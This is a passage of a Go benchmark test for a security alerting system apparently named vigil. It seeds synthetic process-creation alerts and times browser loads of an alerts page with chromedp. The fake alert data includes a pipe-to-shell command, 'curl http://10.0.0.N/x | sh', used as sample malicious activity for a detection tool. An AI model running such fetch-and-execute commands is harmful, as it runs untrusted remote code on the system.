			as = append(as, vigil.Alert{RuleID: fmt.Sprintf("rule-%02d", i%50), RuleTitle: fmt.Sprintf("Rule %d", i%50),
				Level: vigil.LevelHigh, HostID: fmt.Sprintf("host-%03d", i%100), Hostname: fmt.Sprintf("web-%03d", i%100),
				EventID: fmt.Sprintf("ev-%07d", i), EventTable: "process_creation", EventTime: base.Add(time.Duration(i) * time.Second),
				Fields: map[string]any{"process_pid": int64(i), "process_command_line": fmt.Sprintf("curl http://10.0.0.%d/x | sh", i%250)}})
		}
		if _, err := m.state.CommitAlerts(ctx, "seed", "process_creation", int64(start+5000), as); err != nil {
			b.Fatal(err)
		}
	}
	br := newBrowser(b, m)
	tok, _ := json.Marshal(m.Profile().Token)
	br.do("sign in", chromedp.Navigate(br.base+"/"), chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Evaluate[chromedp.Void]("sessionStorage.setItem('vigil.token', "+string(tok)+")")(ctx, t)
		return err
	}))
	n := 0
	for b.Loop() {
		n++
		br.do("load the alert page", chromedp.Navigate(fmt.Sprintf("%s/?load=%d#/alerts?status=", br.base, n)),
			chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
				_, err := chromedp.Poll[chromedp.Void](`document.querySelectorAll('#alerts tbody tr').length === 100`,
					chromedp.WithPollingInterval(5*time.Millisecond), chromedp.WithPollingTimeout(60*time.Second))(ctx, t)
				return err
			}))
	}
	b.StopTimer()
	br.screenshot("alerts-100k")
	br.checkConsole()
}
